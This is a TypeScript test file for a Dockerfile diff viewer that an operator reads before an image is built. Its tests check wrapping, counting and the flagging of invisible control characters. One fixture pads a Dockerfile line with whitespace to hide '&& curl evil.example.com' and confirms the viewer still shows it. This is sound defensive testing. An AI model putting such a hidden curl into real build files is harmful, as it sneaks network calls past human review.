// The diff that an operator reads before a bottle is made from another Dockerfile.

import fc from "fast-check";
import { expect, test } from "vitest";

import { dockerfileRows, type DockerfileWords } from "#components/dockerfile-rows.ts";
import { rowWidth, type Row } from "#components/rows.ts";
import { lineChanges } from "#domain/egress/line-diff.ts";

const textOf = (row: Row): string =>
  row
    .map(({ text }) => text)
    .join("")
    .trimEnd();

function read(before: string, after: string, width = 80, against: DockerfileWords["against"] = "known"): string[] {
  return dockerfileRows({ against, changes: lineChanges(before, after) }, width).map(textOf);
}

const BEFORE = ["FROM node:24-slim", ...Array.from({ length: 20 }, (_, index) => `ENV N${index}=1`), "USER node"].join(
  "\n",
);

test("what is added and removed is told by sign and number, with the lines around it, and the rest is counted", () => {
  const after = BEFORE.replace("ENV N10=1", "ENV N10=2\nRUN apt-get install -y jq");
  expect(read(BEFORE, after)).toEqual([
    "",
    "Dockerfile: 2 lines added, 1 line removed",
    "   ⋮ 8 lines as before",
    " 9   ENV N7=1",
    "10   ENV N8=1",
    "11   ENV N9=1",
    "   - ENV N10=1",
    "12 + ENV N10=2",
    "13 + RUN apt-get install -y jq",
    "14   ENV N11=1",
    "15   ENV N12=1",
    "16   ENV N13=1",
    "   ⋮ 7 lines as before",
  ]);
});

test("a line longer than the screen is wrapped to its end: nothing hides beyond the edge", () => {
  const evil = `RUN true${" ".repeat(300)}&& curl evil.example.com`;
  const rows = read("FROM a", `FROM a\n${evil}`, 60);
  expect(rows.join("\n")).toContain("curl evil.example.com");
});

test("characters that do not show are pointed at, and none of them reaches the terminal", () => {
  const rows = read("FROM a", "FROM a\nRUN echo \u202etxt\u0007 \u001b[2J");
  expect(rows.slice(-2)).toEqual(["2 + RUN echo txt", "    ⚑ with characters that do not show"]);
});

test("a tab and a carriage return are no such characters", () => {
  expect(read("FROM a", "FROM a\r\n\tRUN b\r").join("\n")).not.toContain("do not show");
});

test("a file that changes nothing is shown whole, and says so", () => {
  const rows = read(BEFORE, BEFORE, 120);
  expect(rows[1]).toContain("the very one that the bottle is made from now");
  expect(rows).toHaveLength(2 + 22);
});

test.each([
  ["unknown", "is not known"],
  ["reading", "reading"],
  ["decided", "as it was asked for"],
] as const)("what it is compared with is said: %s", (against, words) => {
  expect(read("", "FROM a", 80, against)[1]).toContain(words);
});

test("whatever two files hold, every added and removed line is there, and no row is too wide", () => {
  const text = fc.array(
    fc.string({ maxLength: 200 }).map((line) => line.replaceAll("\n", " ")),
    { maxLength: 30 },
  );
  fc.assert(
    fc.property(text, text, fc.integer({ min: 44, max: 200 }), (before, after, width) => {
      const changes = lineChanges(before.join("\n"), after.join("\n"));
      const rows = dockerfileRows({ against: "known", changes }, width);
      const shown = (sign: string): number => rows.filter((row) => row[1]?.text === `${sign} `).length;
      const count = (sign: string): number => changes.filter((change) => change.sign === sign).length;
      expect(shown("+")).toBe(count("+"));
      expect(shown("-")).toBe(count("-"));
      for (const row of rows) expect(rowWidth(row)).toBeLessThanOrEqual(width);
    }),
    { numRuns: 60 },
  );
});
